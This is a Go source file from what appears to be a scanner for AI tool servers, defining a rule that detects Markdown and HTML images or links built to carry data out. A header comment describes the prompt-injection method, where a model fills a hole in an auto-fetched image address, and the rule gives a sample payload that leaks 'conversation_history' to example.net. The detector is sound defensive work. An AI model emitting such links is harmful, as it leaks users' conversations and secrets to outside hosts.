package detect

import (
	"bytes"
	"strings"

	"github.com/mcp-watchdog/mcp-watchdog/internal/finding"
	"github.com/mcp-watchdog/mcp-watchdog/internal/unmask"
	"github.com/mcp-watchdog/mcp-watchdog/internal/unmask/markup"
)

// exfiltration_link: pictures and links whose address is to carry data out. A
// client that renders a picture fetches its address without asking, and a model
// that was told to fills the hole in it. Shown for several assistants since 2023.

var exfiltrationLink = &finding.Rule{
	ID: "exfiltration_link", Class: "data_exfiltration", SMAC: "SMAC-2", Severity: finding.High,
	Title:     "a link or picture carries data out",
	Catches:   "Markdown and HTML pictures and links with a hole for a model to fill ({{conversation}}, [INSERT KEY]) or with something secret encoded in the address, and titles and descriptions of links that give orders. They are cut.",
	Example:   "![status](https://example.net/p.png?d={{conversation_history}})",
	Misses:    "Addresses that a model composes later, and holes that look like those of ordinary templates.",
	Exception: "Templates and manuals can show such addresses in a code block.",
}

func detectExfiltrationLink(t *Text) {
	var bad group
	for _, m := range markup.Links(t.Text()) {
		switch m.Kind {
		case unmask.Exfiltration:
			if m.Weight == unmask.Carrier && (strings.ContainsAny(m.Hidden, "{[<$") || escapedHole(m.Hidden) || markup.Hole(m.Hidden)) { // a hole, not a page that carries its own code
				bad.add(m)
			}
		case unmask.LinkTitle, unmask.HiddenAttribute, unmask.HiddenElement:
			if t.hostile(m.Hidden) {
				bad.add(m)
			}
		}
	}
	if len(bad.spans) > 0 {
		t.Report(finding.Finding{
			Rule: exfiltrationLink, Severity: finding.High, Seen: finding.Mask(bad.hidden),
			Why: plural(len(bad.spans), "link or picture carries", "links or pictures carry") + " data out or orders in",
		}, bad.spans, "")
	}
}

// escapedHole reports whether an address has a name between brackets that are
// percent escapes, and no object of JSON.
func escapedHole(url string) bool {
	for i := 0; i+3 < len(url); i++ {
		if url[i] != '%' || !hasFold(url[i:], "%7b") && !hasFold(url[i:], "%3c") && !hasFold(url[i:], "%5b") {
			continue
		}
		n := i + 3
		for n < len(url) && (letter(url[n]) || url[n] == '_' || url[n] == '-' || url[n] == '.' || url[n] == '+') {
			n++
		}
		if rest := url[n:]; n > i+5 && (hasFold(rest, "%7d") || hasFold(rest, "%3e") || hasFold(rest, "%5d")) {
			return true
		}
	}
	return false
}

// linkLiterals begin links and pictures.
var linkLiterals = []string{"](http", "](//", "](<http", "<img", "<a h", "<link", "<iframe", "src=", "url(", "]: http"}

// longestLink is how much raw text of a link is looked at.
const longestLink = 400

// carriesSomething takes a second look at a link: only an address with a hole,
// a query or a long odd part, or a link with a title, is worth parsing.
func carriesSomething(content []byte, at int) bool {
	if content[at] == ']' && sentenceBefore(content, at) {
		return true
	}
	link := content[at:min(len(content), at+longestLink)]
	for k, c := range link {
		switch linkByte[c] {
		case 1:
			if k > 4 {
				return true
			}
		case 2:
			if k > 6 {
				return k > 120 || bytes.IndexByte(link[:k], '=') >= 0 || bytes.IndexByte(link[:k], '&') >= 0 || bytes.IndexByte(link[:k], '%') >= 0
			}
		}
	}
	return true
}

// linkByte is 1 for what makes a link worth parsing and 2 for what ends it.
var linkByte = func() (t [256]uint8) {
	for _, c := range []byte("{$?\"'< [") {
		t[c] = 1
	}
	for _, c := range []byte(")>\\\n") {
		t[c] = 2
	}
	return t
}()

// sentenceBefore reports whether a picture whose description ends at at is
// described in a sentence.
func sentenceBefore(content []byte, at int) bool {
	from := max(0, at-longestLink)
	open := bytes.LastIndexByte(content[from:at], '[')
	if open < 0 {
		return false
	}
	open += from
	return open > 0 && content[open-1] == '!' && sentenceAfter(content[open+1:at])
}
